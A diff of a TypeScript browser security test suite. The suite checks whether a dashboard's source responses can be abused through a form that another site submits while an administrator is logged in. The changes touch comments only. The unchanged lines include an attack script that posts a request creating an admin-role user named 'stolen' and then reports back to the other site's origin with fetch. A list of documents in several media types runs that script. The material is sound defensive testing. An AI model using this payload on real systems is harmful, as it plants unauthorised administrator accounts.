@@ -1,4 +1,4 @@
-/** Responses of sources to a form post from another site, in Chromium with a logged-in administrator. */
+/** Responses of sources to a form that another site submits, in Chromium with a logged-in administrator. */
 import assert from "node:assert/strict";
 import { after, before, suite, test } from "node:test";
 import type { Page } from "playwright-core";
@@ -10,7 +10,7 @@ const attack = (other: string): string =>
      body: JSON.stringify({ name: "stolen", role: "admin" }) }).catch(() => 0);
    fetch("${other}/ran?origin=" + encodeURIComponent(self.origin), { mode: "no-cors" });`;
 
-/** How each media type runs a script. */
+/** For each media type, a document that runs a script. */
 const documents: readonly (readonly [type: string, body: (script: string) => string])[] = [
   ["text/html", (script) => `<!doctype html><title>answer</title><script>${script}</script>`],
   [
@@ -38,7 +38,7 @@ const documents: readonly (readonly [type: string, body: (script: string) => str
 
 suite("responses of sources in a browser", () => {
   let world: DashboardWorld;
-  /** Another site: its page contains the form, and the script reports to it. */
+  /** The other site. Its page contains the form, and the script reports to it. */
   let other: Receiver;
   let address = "";
 
@@ -69,7 +69,7 @@ suite("responses of sources in a browser", () => {
     assert.equal(changed.status, 200, JSON.stringify(changed.body));
   };
 
-  /** Clicks in a page of the other site; resolves when the response is there, as a download or as a document. */
+  /** Clicks on a page of the other site. Resolves when the response has arrived, as a download or as a document. */
   const submit = async (page: Page, to: string, n: string): Promise<"download" | "document"> => {
     await page.goto(`${other.origin}/form?${new URLSearchParams({ to, n }).toString()}`);
     const download = page.waitForEvent("download").then(() => "download" as const);
@@ -106,7 +106,7 @@ suite("responses of sources in a browser", () => {
     await created("/v1/connections", { source_id: id, webhook_id: webhook["id"] });
     const script = attack(other.origin);
     const page = await world.context.newPage();
-    /** As in a browser that ignores Content-Disposition: the sandbox must be sufficient. */
+    /** As if the browser ignored Content-Disposition: the sandbox alone must be sufficient. */
     const shown = await world.context.newPage();
     await shown.route(`${world.server.url}/**`, async (route) => {
       const response = await route.fetch();
